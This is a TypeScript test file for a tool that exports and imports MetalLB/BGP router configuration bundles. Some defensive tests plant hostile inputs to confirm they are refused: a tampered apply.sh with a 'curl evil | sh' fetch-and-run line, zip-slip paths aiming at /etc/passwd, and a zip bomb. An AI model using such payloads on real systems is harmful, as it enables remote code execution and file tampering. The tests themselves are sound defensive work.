import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { buildPlan, renderRouterLine, type Plan } from '../../shared/plan/index.ts';
import { parseTopologyText } from '../../shared/topology/index.ts';
import { UserError } from '../errors.ts';
import {
  BGP_PASSWORD_PLACEHOLDER,
  MAX_BUNDLE_BYTES,
  bundleOf,
  topologyFromBundle,
  type BundleManifest,
} from './index.ts';

const ARTICLE_TEXT = readFileSync(
  new URL('../../../examples/article-topology.yaml', import.meta.url),
  'utf8',
);
const CREATED = new Date('2025-01-02T03:04:05.000Z');

function planOf(text: string, fileName = 'topology.yaml'): Plan {
  const validation = parseTopologyText(text, fileName);
  if (!validation.ok) throw new Error(validation.errors.map((e) => `${e.path}: ${e.message}`).join('\n'));
  return buildPlan(validation.topology, validation.warnings);
}

function articleBundle(extra: Partial<Parameters<typeof bundleOf>[0]> = {}): Uint8Array {
  return bundleOf({
    topologyText: ARTICLE_TEXT,
    plan: planOf(ARTICLE_TEXT),
    appVersion: '0.1.0',
    createdAt: CREATED,
    ...extra,
  });
}

function texts(zip: Uint8Array): Record<string, string> {
  const decoder = new TextDecoder();
  return Object.fromEntries(
    Object.entries(unzipSync(zip)).map(([name, bytes]) => [name, decoder.decode(bytes)]),
  );
}

function manifestOf(files: Record<string, string>): BundleManifest {
  return JSON.parse(files['manifest.json'] ?? 'null') as BundleManifest;
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

/** Rebuilds a zip with one file replaced (or added), keeping the original manifest. */
function withFile(zip: Uint8Array, name: string, content: string): Uint8Array {
  const entries: Record<string, Uint8Array> = { ...unzipSync(zip), [name]: strToU8(content) };
  return zipSync(entries);
}

function invalidError(run: () => unknown): UserError {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(UserError);
    expect((error as UserError).kind).toBe('invalid');
    return error as UserError;
  }
  throw new Error('expected a UserError');
}

const ARTICLE_ROUTER_LINES = [
  'set protocols bgp 64512 parameters router-id 192.168.1.1',
  'set protocols bgp 64512 neighbor 192.168.1.201 remote-as 64512',
  'set protocols bgp 64512 neighbor 192.168.1.201 description mbw-worker1',
  'set protocols bgp 64512 neighbor 192.168.1.202 remote-as 64512',
  'set protocols bgp 64512 neighbor 192.168.1.202 description mbw-worker2',
  'set protocols bgp 64512 neighbor 192.168.1.203 remote-as 64512',
  'set protocols bgp 64512 neighbor 192.168.1.203 description mbw-worker3',
  'set protocols bgp 64512 neighbor 192.168.1.204 remote-as 64512',
  'set protocols bgp 64512 neighbor 192.168.1.204 description mbw-worker4',
  'set protocols bgp 64512 maximum-paths ibgp 32',
];

describe('bundleOf', () => {
  it('holds every file, each with its sha256 in the manifest', () => {
    const files = texts(articleBundle());
    const manifest = manifestOf(files);
    expect(Object.keys(files).sort()).toEqual([
      'README.md',
      'manifest.json',
      'metallb/01-ipaddresspool-default.yaml',
      'metallb/02-bgppeer-mbw-router.yaml',
      'metallb/03-bgpadvertisement-mbw-pools.yaml',
      'router/apply.sh',
      'router/commands.txt',
      'router/teardown.txt',
      'topology.yaml',
    ]);
    expect(manifest).toMatchObject({
      app: 'metallb-bgp-wizard',
      appVersion: '0.1.0',
      createdAt: '2025-01-02T03:04:05.000Z',
      metallbVersion: 'v0.14.9',
      dialect: 'edgeos',
    });
    expect(Object.keys(manifest.files).sort()).toEqual(
      Object.keys(files)
        .filter((f) => f !== 'manifest.json')
        .sort(),
    );
    for (const [path, sum] of Object.entries(manifest.files))
      expect(sha256(files[path] ?? ''), path).toBe(sum);
  });

  it("carries the article topology's exact planner lines and MetalLB objects", () => {
    const files = texts(articleBundle());
    expect(files['topology.yaml']).toBe(ARTICLE_TEXT);
    expect(files['router/commands.txt']).toBe(
      ['configure', ...ARTICLE_ROUTER_LINES, 'commit', 'save', 'exit', ''].join('\n'),
    );
    const script = files['router/apply.sh'] ?? '';
    expect(script.startsWith('#!/bin/vbash\n')).toBe(true);
    for (const line of ARTICLE_ROUTER_LINES)
      expect(script).toContain(`$W ${line} || { $W discard; $W end; exit 2; }`);
    expect(script).toContain('$W save || { $W end; exit 4; }');
    expect(files['metallb/01-ipaddresspool-default.yaml']).toBe(
      [
        'apiVersion: metallb.io/v1beta1',
        'kind: IPAddressPool',
        'metadata:',
        '  name: default',
        '  namespace: metallb-system',
        '  labels:',
        '    app.kubernetes.io/managed-by: metallb-bgp-wizard',
        'spec:',
        '  addresses:',
        '    - 192.168.1.224/27',
        '  avoidBuggyIPs: true',
        '',
      ].join('\n'),
    );
    expect(files['metallb/02-bgppeer-mbw-router.yaml']).toContain('peerAddress: 192.168.1.1');
  });

  it('makes apply.sh executable when unpacked', () => {
    const zip = articleBundle();
    // Central directory entry of apply.sh: external attributes sit 38 bytes into the header.
    const name = new TextEncoder().encode('router/apply.sh');
    const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
    let found = false;
    for (let i = 0; i + 46 + name.length <= zip.length; i += 1) {
      if (view.getUint32(i, true) !== 0x02014b50) continue;
      const nameLength = view.getUint16(i + 28, true);
      const entryName = new TextDecoder().decode(zip.subarray(i + 46, i + 46 + nameLength));
      if (entryName !== 'router/apply.sh') continue;
      expect((view.getUint32(i + 38, true) >>> 16) & 0o777).toBe(0o755);
      found = true;
    }
    expect(found).toBe(true);
  });

  it('writes a README with the install steps, the router commands, the caveat and the undo', () => {
    const readme = texts(articleBundle())['README.md'] ?? '';
    expect(readme).toContain(
      'kubectl apply -f https://raw.githubusercontent.com/metallb/metallb/v0.14.9/config/manifests/metallb-native.yaml',
    );
    expect(readme).toContain('kubectl apply -f metallb/');
    expect(readme).toContain('ssh ubnt@192.168.1.1 /bin/vbash /tmp/mbw-apply.sh');
    expect(readme).toContain('## The same-segment caveat');
    expect(readme).toContain('lies inside the cluster segment 192.168.1.0/24 on eth1');
    expect(readme).toContain('pool-includes-network-or-broadcast');
    expect(readme).toContain('**assumes the router holds exactly this plan**');
    expect(readme).toContain('delete protocols bgp 64512 neighbor 192.168.1.204');
    expect(readme).toContain('kubectl delete -f metallb/');
    // Steps in order: MetalLB first, then its configuration, then the router.
    const order = ['## 1.', '## 2.', '## 3.', '## How to undo'].map((h) => readme.indexOf(h));
    expect(order).toEqual([...order].sort((a, b) => a - b));
    expect(order[0]).toBeGreaterThan(0);
  });

  it("computes the teardown from the plan's own config when the router's is unknown", () => {
    const files = texts(articleBundle());
    expect(files['router/teardown.txt']).toBe('configure\ndelete protocols bgp 64512\ncommit\nsave\nexit\n');
  });

  it("computes the teardown from the router's config when given, keeping unmarked neighbors", () => {
    const current = [
      "set system host-name 'ubnt'",
      ...ARTICLE_ROUTER_LINES.map((l) => l.replace(/ description (\S+)$/, " description '$1'")),
      'set protocols bgp 64512 neighbor 10.0.0.9 remote-as 65009',
    ].join('\n');
    const files = texts(articleBundle({ routerConfigCommands: current }));
    expect(files['router/teardown.txt']).toBe(
      [
        'configure',
        ...[1, 2, 3, 4].map((n) => `delete protocols bgp 64512 neighbor 192.168.1.20${n}`),
        'commit',
        'save',
        'exit',
        '',
      ].join('\n'),
    );
    expect(files['README.md']).not.toContain('assumes the router holds exactly this plan');
    expect(files['README.md']).toContain("computed from the router's configuration");
  });

  it('uses the two legacy manifests and a ConfigMap for MetalLB v0.12.1', () => {
    const text = ARTICLE_TEXT.replace('version: v0.14.9', 'version: v0.12.1');
    const files = texts(
      bundleOf({ topologyText: text, plan: planOf(text), appVersion: '0.1.0', createdAt: CREATED }),
    );
    expect(Object.keys(files).filter((f) => f.startsWith('metallb/'))).toEqual([
      'metallb/01-configmap-config.yaml',
    ]);
    expect(files['README.md']).toContain('metallb/v0.12.1/manifests/namespace.yaml');
    expect(files['README.md']).toContain('metallb/v0.12.1/manifests/metallb.yaml');
    expect(manifestOf(files).metallbVersion).toBe('v0.12.1');
  });

  it('never carries a password: router values and Secret data become the placeholder', () => {
    const secret = 'S3cr3t-bgp';
    const plan = planOf(ARTICLE_TEXT);
    const passwordLine = {
      op: 'set' as const,
      path: ['protocols', 'bgp', '64512', 'neighbor', '192.168.1.201', 'password', secret],
    };
    const rendered = renderRouterLine(passwordLine);
    const withPassword: Plan = {
      ...plan,
      metallb: {
        ...plan.metallb,
        objects: [
          ...plan.metallb.objects,
          {
            apiVersion: 'v1',
            kind: 'Secret',
            metadata: { name: 'mbw-bgp-password', namespace: 'metallb-system' },
            type: 'kubernetes.io/basic-auth',
            data: { password: Buffer.from(secret).toString('base64') },
          },
        ],
      },
      router: {
        ...plan.router,
        commands: [...plan.router.commands.slice(0, -3), rendered, ...plan.router.commands.slice(-3)],
        handScript: plan.router.handScript.replace('$W commit', `$W ${rendered} || exit 2\n$W commit`),
      },
    };
    const zip = bundleOf({
      topologyText: `# bgp password is ${secret}\n${ARTICLE_TEXT}`,
      plan: withPassword,
      appVersion: '0.1.0',
      createdAt: CREATED,
      secrets: [secret],
    });
    const files = texts(zip);
    const all = Object.values(files).join('\n');
    expect(all).not.toContain(secret);
    expect(all).not.toContain(Buffer.from(secret).toString('base64'));
    expect(files['router/commands.txt']).toContain(
      `neighbor 192.168.1.201 password ${BGP_PASSWORD_PLACEHOLDER}`,
    );
    expect(files['router/apply.sh']).toContain(`password ${BGP_PASSWORD_PLACEHOLDER} || exit 2`);
    expect(files['metallb/04-secret-mbw-bgp-password.yaml']).toContain(
      `password: ${BGP_PASSWORD_PLACEHOLDER}`,
    );
    // Still a valid bundle.
    expect(topologyFromBundle(zip, 'x.zip').topologyText).toContain(BGP_PASSWORD_PLACEHOLDER);
  });

  it('writes the VyOS layout for a VyOS router', () => {
    const text = ARTICLE_TEXT.replace('dialect: edgeos', 'dialect: vyos');
    const files = texts(
      bundleOf({ topologyText: text, plan: planOf(text), appVersion: '0.1.0', createdAt: CREATED }),
    );
    expect(manifestOf(files).dialect).toBe('vyos');
    expect(files['router/commands.txt']).toContain('set protocols bgp system-as 64512\n');
    expect(files['router/teardown.txt']).toBe('configure\ndelete protocols bgp\ncommit\nsave\nexit\n');
    expect(files['README.md']).toContain('delete protocols bgp neighbor 192.168.1.201');
    expect(files['README.md']).toContain('## 3. Configure the VyOS router over SSH');
  });

  it('gives the same bytes for the same input', () => {
    expect(Buffer.from(articleBundle()).equals(Buffer.from(articleBundle()))).toBe(true);
  });
});

describe('topologyFromBundle', () => {
  it('round-trips: the imported topology gives the same plan', () => {
    const zip = articleBundle();
    const { topologyText, manifest } = topologyFromBundle(zip, 'mbw-bundle.zip');
    expect(topologyText).toBe(ARTICLE_TEXT);
    expect(manifest.metallbVersion).toBe('v0.14.9');
    expect(planOf(topologyText)).toEqual(planOf(ARTICLE_TEXT));
  });

  it('turns a JSON topology into YAML that plans the same', () => {
    const validation = parseTopologyText(ARTICLE_TEXT, 'article.yaml');
    if (!validation.ok) throw new Error('article topology is invalid');
    const json = JSON.stringify(validation.topology, null, 2);
    const zip = bundleOf({ topologyText: json, plan: planOf(json, 'topology.json'), appVersion: '0.1.0' });
    const { topologyText } = topologyFromBundle(zip, 'b.zip');
    expect(topologyText.trimStart().startsWith('{')).toBe(false);
    expect(topologyText).toContain('dialect: edgeos');
    expect(planOf(topologyText)).toEqual(planOf(json, 'topology.json'));
  });

  it('refuses a tampered file, naming it', () => {
    const zip = withFile(articleBundle(), 'router/apply.sh', '#!/bin/vbash\ncurl evil | sh\n');
    const error = invalidError(() => topologyFromBundle(zip, 'mbw-bundle.zip'));
    expect(error.message).toMatch(
      /^mbw-bundle\.zip: router\/apply\.sh does not match its sha256 in manifest\.json/,
    );
    expect(error.message).toContain('export the bundle again');
  });

  it('refuses a tampered topology', () => {
    const zip = withFile(articleBundle(), 'topology.yaml', ARTICLE_TEXT.replace('64512', '64513'));
    expect(invalidError(() => topologyFromBundle(zip, 'b.zip')).message).toContain(
      'topology.yaml does not match',
    );
  });

  it('refuses garbage bytes with a clear message', () => {
    const garbage = new TextEncoder().encode('this is not a zip file at all, just some text pretending');
    const error = invalidError(() => topologyFromBundle(garbage, 'notes.zip'));
    expect(error.message).toMatch(/^notes\.zip: is not a readable \.zip file/);
    expect(error.message).toContain('choose a .zip exported by MetalLB BGP Wizard');
    expect(invalidError(() => topologyFromBundle(new Uint8Array([1, 2, 3]), 'tiny.zip')).message).toMatch(
      /^tiny\.zip: is not a \.zip file \(3 bytes\)/,
    );
  });

  it('refuses zip-slip paths', () => {
    for (const name of ['../evil.sh', 'router/../../etc/passwd', '/etc/passwd', 'C:/x', 'a\\..\\b']) {
      const zip = withFile(articleBundle(), name, 'x');
      const error = invalidError(() => topologyFromBundle(zip, 'b.zip'));
      expect(error.message, name).toContain(`entry ${JSON.stringify(name)} points outside the bundle`);
    }
  });

  it('refuses too many entries and too many bytes', () => {
    const entries: Record<string, Uint8Array> = unzipSync(articleBundle());
    for (let i = 0; i < 100; i += 1) entries[`extra/${i}.txt`] = strToU8('x');
    const crowded = invalidError(() => topologyFromBundle(zipSync(entries), 'b.zip'));
    expect(crowded.message).toContain('more than 100 entries');

    const huge = new Uint8Array(MAX_BUNDLE_BYTES + 1);
    expect(invalidError(() => topologyFromBundle(huge, 'big.zip')).message).toMatch(
      /^big\.zip: is 20\.0 MB, more than/,
    );

    // Small on disk, huge unpacked: refused before inflating.
    const bomb = zipSync({ 'manifest.json': new Uint8Array(MAX_BUNDLE_BYTES + 1) }, { level: 9 });
    expect(bomb.length).toBeLessThan(MAX_BUNDLE_BYTES);
    expect(invalidError(() => topologyFromBundle(bomb, 'bomb.zip')).message).toContain(
      'unpacks to more than 20 MB',
    );
  });

  it('refuses a zip without topology.yaml or without a manifest', () => {
    const entries = unzipSync(articleBundle());
    const { 'topology.yaml': _topology, ...withoutTopology } = entries;
    expect(invalidError(() => topologyFromBundle(zipSync(withoutTopology), 'b.zip')).message).toBe(
      'b.zip: has no topology.yaml; choose a .zip exported by MetalLB BGP Wizard, or open a topology.yaml file directly',
    );
    const { 'manifest.json': _manifest, ...withoutManifest } = entries;
    expect(invalidError(() => topologyFromBundle(zipSync(withoutManifest), 'b.zip')).message).toMatch(
      /^b\.zip: has no manifest\.json, so it is not a bundle this app exported/,
    );
    const foreign = withFile(articleBundle(), 'manifest.json', '{"app": "other", "files": {}}');
    expect(invalidError(() => topologyFromBundle(foreign, 'b.zip')).message).toContain(
      'manifest.json is not a MetalLB BGP Wizard manifest',
    );
  });

  it('refuses a file listed in the manifest but missing', () => {
    const { 'README.md': _readme, ...rest } = unzipSync(articleBundle());
    expect(invalidError(() => topologyFromBundle(zipSync(rest), 'b.zip')).message).toBe(
      'b.zip: README.md is listed in manifest.json but missing from the zip; export the bundle again',
    );
  });
});
